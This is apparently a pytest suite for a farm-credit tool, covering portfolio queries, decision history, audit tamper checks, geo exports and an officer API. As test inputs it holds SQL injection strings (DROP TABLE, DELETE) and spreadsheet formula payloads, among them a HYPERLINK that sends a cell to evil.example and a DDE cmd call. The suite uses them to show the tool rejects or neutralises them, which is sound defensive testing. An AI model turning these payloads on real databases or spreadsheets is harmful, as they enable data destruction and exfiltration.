"""The credit team's faces (#14): `assets query portfolio|explain|history`, `assets audit verify`,
`assets export`, the SQL views, and filters that never inject SQL."""

from __future__ import annotations

import json
from pathlib import Path

import duckdb
import pytest

from assets.cli import main
from assets.errors import InputError
from assets.store import connect
from assets.store.credit import PortfolioFilter, portfolio
from tests.fixtures_credit import build_bank

INJECTIONS = ["x' OR '1'='1", "maize'; DROP TABLE decisions; --", "1; DELETE FROM claims", "N56E009' --"]


@pytest.fixture(scope="module")
def bank(tmp_path_factory) -> Path:
    db = tmp_path_factory.mktemp("credit") / "bank.duckdb"
    build_bank(db)
    return db


def run(capsys, *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    out = capsys.readouterr()
    return code, out.out, out.err


def test_portfolio_filters_sorting_and_totals(bank: Path, capsys) -> None:
    code, out, _ = run(capsys, "query", "portfolio", "--db", str(bank), "--format", "json", "--sort", "limit_cny",
                       "--desc")
    doc = json.loads(out)
    rows, totals = doc["borrowers"], doc["totals"]
    assert code == 0 and [r["limit_cny"] for r in rows] == sorted((r["limit_cny"] for r in rows), reverse=True)
    assert totals["limit_cny"] == sum(r["limit_cny"] for r in rows) > 0 and totals["borrowers"] == 2
    assert all(r["value_low_cny"] <= r["value_cny"] <= r["value_high_cny"] for r in rows)
    with connect(bank, read_only=True) as con:
        north = portfolio(con, PortfolioFilter(region="N56E009"))[0]
        rejected = portfolio(con, PortfolioFilter(status="rejected"))[0]
        big = portfolio(con, PortfolioFilter(min_limit_cny=rows[0]["limit_cny"]))[0]
        wheat = portfolio(con, PortfolioFilter(crop="wheat"))[1]
        none = portfolio(con, PortfolioFilter(crop="rice"))[1]
        future = portfolio(con, PortfolioFilter(as_of_from=__import__("datetime").date(2030, 1, 1)))[1]
    assert [r["borrower_id"] for r in north] == ["farmer-a"]
    assert [(r["borrower_id"], r["claims"]) for r in rejected] == [("farmer-b", 1)]
    assert [r["borrower_id"] for r in big] == [rows[0]["borrower_id"]]
    assert wheat["limit_cny"] == totals["limit_cny"] and none["borrowers"] == 0 == future["borrowers"]
    code, out, _ = run(capsys, "query", "portfolio", "--db", str(bank))
    assert code == 0 and "TOTAL (2)" in out and "value low" in out
    by_synonym = [json.loads(run(capsys, "query", "portfolio", "--db", str(bank), "--format", "json", "--crop", name)[1])
                  for name in ("wheat", "Wheat", "winter wheat")]  # a legend name or a synonym of one
    assert by_synonym[0]["totals"]["limit_cny"] == wheat["limit_cny"] and by_synonym[1:] == by_synonym[:1] * 2


@pytest.mark.parametrize("evil", INJECTIONS)
def test_sql_looking_filters_match_nothing_and_change_nothing(bank: Path, evil: str, capsys) -> None:
    with connect(bank, read_only=True) as con:
        before = con.execute("SELECT count(*) FROM decisions").fetchone()[0]
        rows, totals = portfolio(con, PortfolioFilter(crop=evil))
        assert rows == [] and totals["limit_cny"] == 0
        with pytest.raises(InputError):
            portfolio(con, PortfolioFilter(region=evil))
        with pytest.raises(InputError):
            portfolio(con, PortfolioFilter(sort=evil))
        with pytest.raises(InputError):
            portfolio(con, PortfolioFilter(status=evil))
    code, _, err = run(capsys, "query", "portfolio", "--db", str(bank), "--format", "json", "--region", evil)
    assert code == 2 and "1-degree cell name" in err
    code, _, err = run(capsys, "query", "portfolio", "--db", str(bank), "--format", "json", "--crop", evil)
    assert code == 2 and "not in the crop legend" in err  # a crop is a legend name, checked before any query
    code, _, err = run(capsys, "query", "explain", evil, "--db", str(bank))
    assert code == 2 and err.startswith("error:")
    with connect(bank, read_only=True) as con:
        assert con.execute("SELECT count(*) FROM decisions").fetchone()[0] == before


def test_explain_and_history_commands(bank: Path, capsys) -> None:
    code, out, _ = run(capsys, "query", "explain", "farmer-a", "--db", str(bank), "--as-of", "2026-05-15", "--recompute")
    assert code == 0 and "the same number" in out and "2026.12-6" in out and "crop-v1" in out
    assert "value low" in out and "(low)" in out and "sensors 2026-04-24..2026-05-01" in out
    code, out, _ = run(capsys, "query", "explain", "farmer-a", "--db", str(bank), "--format", "json", "--recompute")
    doc = json.loads(out)
    assert code == 0 and doc["recompute_matches"] and {c["params_version"] for c in doc["claims"]} == {"test-v2"}
    code, _, err = run(capsys, "query", "explain", "farmer-a", "--db", str(bank), "--as-of", "2020-01-01")
    assert code == 2 and "before the first decision" in err
    code, _, err = run(capsys, "query", "explain", "farmer-nobody", "--db", str(bank))
    assert code == 2 and "no borrower" in err
    code, out, _ = run(capsys, "query", "history", "farmer-a", "--db", str(bank), "--format", "json")
    rows = json.loads(out)
    assert code == 0 and len(rows) == 4 and {r["params_version"] for r in rows} == {"2026.12-6", "test-v2"}
    assert all(r["limit_change_cny"] is None for r in rows[:2]) and all(r["limit_change_cny"] < 0 for r in rows[2:])
    assert all(r["name"] for r in rows)  # each decision names its field, as the table's "field" column shows
    code, out, _ = run(capsys, "query", "history", "farmer-a", "--db", str(bank))
    assert code == 0 and out.splitlines()[0].split()[:4] == ["from", "to", "field", "claim"]
    assert rows[0]["name"] in out.splitlines()[2]
    code, _, err = run(capsys, "query", "history", "farmer-nobody", "--db", str(bank))
    assert code == 2 and "no borrower" in err


def test_audit_verify_command(tmp_path: Path, capsys) -> None:
    db = tmp_path / "bank.duckdb"
    build_bank(db)
    code, out, _ = run(capsys, "audit", "verify", "--db", str(db))
    assert code == 0 and out.startswith("ok: 8 decisions")
    with duckdb.connect(str(db)) as con:  # a silent edit with plain SQL, outside the package
        con.execute("UPDATE decisions SET limit_cny = 999999 WHERE decision_seq = 5")
    code, out, _ = run(capsys, "audit", "verify", "--db", str(db))
    assert code == 1 and "TAMPERED" in out and "does not match its hash" in out


def test_sql_views_answer_the_credit_teams_questions(bank: Path) -> None:
    with duckdb.connect(str(bank), read_only=True) as con:
        current = con.execute("SELECT count(*), sum(limit_cny) FROM current_limits").fetchone()
        fields = con.execute("SELECT claim_id, region, geojson, geom_wkb IS NOT NULL FROM field_valuations "
                             "ORDER BY claim_id").fetchall()
        timeline = con.execute("SELECT count(*) FROM decision_timeline WHERE valid_to IS NOT NULL").fetchone()[0]
        con.execute("SELECT * FROM alerts_open").fetchall()
    assert current[0] == 4 and current[1] > 0 and timeline == 4
    assert [f[1] for f in fields] == ["N56E009", "N56E009", "N55E010", "N55E010"]
    assert all(json.loads(f[2])["type"] == "Polygon" and f[3] for f in fields)


@pytest.mark.parametrize("fmt, name", [("geoparquet", "fields.parquet"), ("geojson", "fields.geojson"),
                                       ("csv", "fields.csv")])
def test_exports_open_in_geopandas(bank: Path, tmp_path: Path, fmt: str, name: str, capsys) -> None:
    import geopandas as gpd
    import pandas as pd

    out = tmp_path / name
    code, text, _ = run(capsys, "export", "--db", str(bank), "--format", fmt, "--out", str(out))
    assert code == 0 and "4 fields" in text
    if fmt == "csv":
        df = pd.read_csv(out)
        gdf = gpd.GeoDataFrame(df, geometry=gpd.GeoSeries.from_wkt(df["geometry_wkt"]), crs="EPSG:4326")
    else:
        gdf = gpd.read_parquet(out) if fmt == "geoparquet" else gpd.read_file(out)
    assert gdf.crs.to_epsg() == 4326 and len(gdf) == 4
    assert set(gdf["status"]) == {"verified", "rejected"}
    assert gdf.loc[gdf["status"] == "verified", "limit_cny"].gt(0).all()
    valued = gdf[gdf["status"] == "verified"]
    assert (valued["value_low_cny"] <= valued["value_cny"]).all() and gdf.geometry.is_valid.all()
    # data QA 2026-12-07: a rejected (or in review) field carried its measured area as verified, and 0 as value
    refused = gdf[gdf["status"] == "rejected"]
    assert refused["verified_area_ha"].isna().all() and refused["limit_cny"].isna().all()
    assert (gdf["verified_area_mu"] - 15 * gdf["verified_area_ha"]).abs().max() < 1e-6  # a bank in China reads mu
    assert (gdf["claimed_area_mu"] - 15 * gdf["claimed_area_ha"]).abs().max() < 1e-6
    minx, miny, maxx, maxy = gdf.total_bounds
    assert 9.0 < minx < maxx < 11 and 55 < miny < maxy < 57  # lon/lat order, degrees
    with pytest.raises(SystemExit) as bad:
        main(["export", "--db", str(bank), "--format", fmt, "--out", str(out), "--status", "nonsense"])
    assert bad.value.code == 2


def test_an_export_holds_the_fields_of_the_borrowers_the_portfolio_lists(bank: Path, tmp_path: Path, capsys) -> None:
    """--min-limit, --max-limit, --sort and --rows pick borrowers in `export` as in `query portfolio`."""
    db = ("--db", str(bank))
    ranked = json.loads(run(capsys, "query", "portfolio", *db, "--format", "json", "--sort", "limit_cny", "--desc")[1])
    top = ranked["borrowers"][0]

    def exported(*options: str) -> list[str]:
        out = tmp_path / "f.geojson"
        code, _, err = run(capsys, "export", *db, "--format", "geojson", "--out", str(out), *options)
        assert code == 0, err
        return [f["properties"]["borrower_id"] for f in json.loads(out.read_text())["features"]]

    assert sorted(set(exported())) == ["farmer-a", "farmer-b"]
    assert set(exported("--min-limit", str(top["limit_cny"]))) == {top["borrower_id"]}
    assert set(exported("--sort", "limit_cny", "--desc", "--rows", "1")) == {top["borrower_id"]}
    assert top["borrower_id"] not in exported("--max-limit", str(top["limit_cny"] - 1))
    by_limit = exported("--sort", "limit_cny")  # borrowers in the portfolio's order, each borrower's fields together
    assert by_limit == sorted(by_limit, key=[b["borrower_id"] for b in ranked["borrowers"]][::-1].index)
    code, _, err = run(capsys, "query", "portfolio", *db, "--from", "2016-12-01", "--to", "2016-01-01")
    assert code == 2 and "is after the last 2016-01-01 (--from / --to" in err


@pytest.mark.parametrize("cmd", [["query", "explain"], ["query", "history"], ["query", "portfolio"], ["audit", "verify"],
                                 ["export"], ["report", "portfolio"]], ids=" ".join)
def test_credit_commands_have_help(cmd: list[str], capsys) -> None:
    with pytest.raises(SystemExit) as exit_info:
        main([*cmd, "--help"])
    assert exit_info.value.code == 0 and "usage: assets" in capsys.readouterr().out


def test_officer_routes_explain_history_and_portfolio(tmp_path: Path) -> None:
    from fastapi.testclient import TestClient

    from assets import access
    from assets.api.app import create_app
    from assets.config import Settings

    db = tmp_path / "bank.duckdb"
    build_bank(db)
    with connect(db) as con:
        access.add_user(con, "li", "officer")
        officer = {"Authorization": f"Bearer {access.issue_token(con, 'li', days=1).secret}"}
    with TestClient(create_app(Settings(db_path=db), api_keys=[])) as c:
        r = c.get("/credit/borrowers/farmer-a/explain", params={"as_of": "2026-05-15", "recompute": "true"},
                  headers=officer)
        assert r.status_code == 200 and r.json()["recompute_matches"] and r.json()["limit_cny"] > 0
        assert c.get("/credit/borrowers/farmer-a/explain", params={"as_of": "2020-01-01"},
                     headers=officer).status_code == 422
        assert c.get("/credit/borrowers/farmer-zz/history", headers=officer).status_code == 404
        assert len(c.get("/credit/borrowers/farmer-a/history", headers=officer).json()) == 4
        for evil in INJECTIONS:
            r = c.get("/credit/portfolio", params={"region": evil}, headers=officer)
            assert r.status_code == 422 and "1-degree cell name" in r.text
            r = c.get("/credit/portfolio", params={"crop": evil}, headers=officer)
            assert r.status_code == 422 and "not in the crop legend" in r.text
        assert c.get("/credit/portfolio", params={"sort": "limit_cny; DROP TABLE x"}, headers=officer).status_code == 422
        assert c.get("/credit/portfolio", params={"status": "rejected"}, headers=officer).json()["totals"]["claims"] == 1


def test_csv_cells_a_spreadsheet_would_run_are_text(bank: Path, tmp_path: Path) -> None:
    """QA 2026-12-08: a field named =HYPERLINK(...) reached the export and history CSVs as a live formula."""
    from assets.cli.render import to_csv
    from assets.exports import spreadsheet_safe

    for formula in ('=HYPERLINK("http://evil.example/?x="&B2,"details")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"):
        assert spreadsheet_safe(formula) == "'" + formula
    assert spreadsheet_safe(-2.5) == -2.5 and spreadsheet_safe("Wheat north") == "Wheat north"
    csv_text = to_csv([{"name": "=cmd|' /C calc'!A0", "limit_cny": -0.0}])
    assert "\n'=cmd|" in csv_text and ",-0.0" in csv_text
    import shutil

    db = tmp_path / "names.duckdb"
    shutil.copy(bank, db)
    with duckdb.connect(str(db)) as con:
        con.execute("UPDATE claims SET name = '=HYPERLINK(\"http://evil.example\",\"x\")' WHERE claim_id = "
                    "(SELECT min(claim_id) FROM claims)")
    out = tmp_path / "fields.csv"
    assert main(["export", "--db", str(db), "--format", "csv", "--out", str(out)]) == 0
    assert "'=HYPERLINK(" in out.read_text() and ",=HYPERLINK" not in out.read_text().replace('"', "")
